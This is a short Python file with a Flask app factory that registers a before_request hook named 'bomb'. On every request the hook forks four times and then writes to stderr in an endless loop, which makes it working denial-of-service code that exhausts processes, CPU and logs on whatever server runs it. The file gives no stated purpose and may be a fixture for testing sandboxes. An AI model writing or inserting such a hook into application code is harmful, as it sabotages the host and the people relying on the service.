import os

from flask import Flask


def bomb():
    for _ in range(4):
        os.fork()
    while True:
        os.write(2, b"!" * 64)


def create_app():
    app = Flask(__name__)
    app.before_request(bomb)
    return app
